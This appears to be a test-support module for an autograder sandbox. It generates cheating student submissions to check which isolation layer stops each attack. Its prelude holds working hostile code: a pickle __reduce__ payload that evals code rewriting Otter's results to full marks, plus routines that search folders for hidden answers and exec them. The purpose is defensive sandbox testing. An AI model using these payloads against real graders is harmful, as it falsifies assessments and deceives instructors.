"""What a cheating student hands in to the toy assignment, made of the attacks in the files beside this one.

Most attacks are Python text that runs when the file is loaded and again in every call of its functions. The `Places`
are filled in by whoever runs them: where results would lie, and the very files that a cheat would like to read, so that
an attack fails by what stops it and not by looking in the wrong place. All are bounded, touch loopback only, and end
what they start.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from textwrap import dedent, indent

from tests.autograder.toys import SOLUTION

# What a correct but do-nothing function earns: `double` left its argument alone, which is one case of weight 1 of 10.
HARMLESS = 0.9
# All cases but the public one on `double`.
ALL_BUT_ONE = 8.1
FULL = 9.0

# What stops an attack. The first two are always there; the others are those of `autograder.sandbox.zygote.layers`.
ALWAYS = "always"  # another process without capabilities, plain data only, caps on the trusted side
READER = "reader"  # the submission's files are read as data, and never land where a trusted process imports


@dataclass(frozen=True)
class Places:
    """Where an attack looks for what it wants.

    Attributes:
        hunt: A folder with results of another student, that anyone may write to.
        secrets: Cases and answers, in a folder that only the grader's user may enter.
        lying_open: Answers in a folder that anyone may read.
        port: Where a listener of the test waits on loopback.
        victim: A process of the test's, with the grader's user.
        mark: The name of what is left in places that all share; of this yard alone.
    """

    hunt: str
    secrets: tuple[str, ...] = ()
    lying_open: str = ""
    port: int = 9
    victim: int = 0
    mark: str = "cheat-mark"


@dataclass(frozen=True)
class Attack:
    """One way to cheat.

    Attributes:
        name: What the tests call it.
        tries: What it tries, in a line.
        code: Statements that try it, for the body of a function. They call `win` if they got where they must not.
        value: What the student's functions then return, as an expression; empty if they raise.
        honest: What the work is worth without the attack.
        right: Whether the functions return the right answers if the attack has found them.
        once: Whether `code` runs in one call only (that of the public case on `double`) of otherwise right work.
        make: Writes the file to hand in, for an attack that is no Python file.
        layers: What stops it, each without the others.
        bomb: Whether it must never run without limits on resources.
        before_plugin: Whether plain `otter run` fails on it before any plugin is loaded, which gives no results.
        worth_unpacked: What it is worth where Gradescope or Otter has unpacked it; `honest` if None.
    """

    name: str
    tries: str
    code: str = "pass"
    value: str = ""
    honest: float = 0.0
    right: bool = False
    once: bool = False
    make: Callable[[Path, Places], Path] | None = None
    layers: tuple[str, ...] = (ALWAYS,)
    bomb: bool = False
    before_plugin: bool = False
    worth_unpacked: float | None = None

    @property
    def unpacked(self) -> float:
        """What it is worth where Gradescope or Otter has unpacked it."""
        return self.honest if self.worth_unpacked is None else self.worth_unpacked

    def write(self, folder: Path, places: Places, stem: str = "work") -> Path:
        """Write what is handed in; returns its path."""
        if self.make is not None:
            return self.make(folder, places)
        path = folder / f"{stem}.py"
        path.write_text(submission((self,), places))
        return path


PRELUDE = """
import atexit, builtins, ctypes, gc, glob, json, os, pickle, resource, signal, socket, struct, subprocess, sys
import tempfile, threading, time
import numpy as np

HUNT = {hunt!r}
SECRETS = {secrets!r}
OPEN = {lying_open!r}
PORT = {port!r}
VICTIM = {victim!r}
MARK = {mark!r}
FULL = {{"tests": [{{"name": "toy", "score": 9.0, "max_score": 9.0, "visibility": "visible", "output": "passed"}}]}}
RIGHT = {{}}
# What a grader that unpickles this runs: from then on it writes full marks.
MAKE = (
    "[m := __import__('otter.test_files', fromlist=['x']), setattr(m.GradingResults, 'to_gradescope_dict', "
    "lambda self, config: __import__('json').loads(" + repr(json.dumps(FULL)) + ")), m.GradingResults([])][-1]"
)


class Bomb:
    def __reduce__(self):
        return eval, (MAKE,)


def win(*_):
    '''Got where no student may go: from now on the answers are right, and the score says so.'''
    def double(x):
        if np.min(x) < 0: raise ValueError
        return 2 * np.array(x)
    RIGHT.update(double=double, total=sum, ask_twice=lambda model: (model(1), model(2)), EVEN="two")


def write(path, content):
    with open(path, "wb") as file:
        file.write(content)


def tree(limit=400):
    for place in (HUNT, tempfile.gettempdir(), os.getcwd(), os.path.dirname(os.getcwd())):
        for _, (folder, folders, names) in zip(range(limit), os.walk(place)):
            yield folder, names


# Written so that this file does not hold them itself.
ANSWER = "2 * np-asarray(x)".replace("-", ".")
CASE = "assert_choices-student".replace("-", "(")


def found(text):
    '''Use the reference if this is it, and a hidden case as far as it goes.'''
    if ANSWER in text and "def double" in text:
        exec(text[text.rindex("from typing", 0, text.index(ANSWER)) :], RIGHT)
    elif CASE in text:
        RIGHT.setdefault("EVEN", "two")


def read(path):
    with open(path, "rb") as file:
        found(file.read(1 << 20).decode("utf-8", "replace"))


def quietly(action, *arguments):
    try:
        return action(*arguments)
    except BaseException:
        return None


def libc(name, *arguments):
    '''Call the C library; raises where it says no.'''
    library = ctypes.CDLL(None, use_errno=True)
    result = getattr(library, name)(*arguments)
    if result < 0: raise OSError(ctypes.get_errno(), name)
    return result


def say(*parts):
    body = b"".join(parts)
    os.write(3, struct.pack("<I", len(body)) + body)


def text(s):
    return b"s" + struct.pack("<I", len(s)) + s.encode()


def group(tag, *parts):
    return tag + struct.pack("<I", len(parts)) + b"".join(parts)


def number(n):
    return b"i" + struct.pack("<q", n)


def answer(kind, body):
    return group(b"t", text(kind), body, text(""), group(b"l"))


def value(body):
    return answer("value", body)


def raised(names, label="", line=1):
    return answer("raised", group(b"t", group(b"l", *map(text, names)), text("x"), *[text(label), number(line)] * 2))


def callback(handle, keywords):
    return group(b"t", text("callback"), number(handle), group(b"t"), keywords)
"""


def submission(attacks: tuple[Attack, ...], places: Places) -> str:
    """The text of a Python file that tries these attacks, one after the other."""
    parts = [PRELUDE.format(**asdict(places))]
    if len(attacks) == 1 and attacks[0].once:
        body = indent(dedent(attacks[0].code).strip(), "    " * 2)
        parts += [
            SOLUTION,
            f"right = double\n\ndef double(x):\n    if list(x) == [3.0]:\n{body}\n    return right(x)\n",
        ]
        return "\n".join(parts)
    # A lone attack may raise or end the process; several must not stop each other.
    alone = len(attacks) == 1
    for index, attack in enumerate(attacks):
        parts.append(f"def attack_{index}():\n{indent(dedent(attack.code).strip(), '    ')}\n")
    calls = [f"    attack_{index}()" if alone else f"    quietly(attack_{index})" for index in range(len(attacks))]
    parts.append("\n".join(["def strike():", *calls, "    if 'EVEN' in RIGHT: globals()['EVEN'] = RIGHT['EVEN']\n"]))
    parts.append('EVEN = "three"\nstrike()\n')
    value = attacks[0].value if alone else ""
    for name in ("double", "total", "ask_twice"):
        lines = [f"def {name}(x):", "    strike()"]
        if any(attack.right for attack in attacks):
            lines.append(f"    if {name!r} in RIGHT: return RIGHT[{name!r}](x)")
        lines.append(f"    return {value}" if value else "    raise RuntimeError")
        parts.append("\n".join(lines) + "\n")
    if value:
        parts.append(f"EVEN = {value}\n")
    return "\n".join(parts)
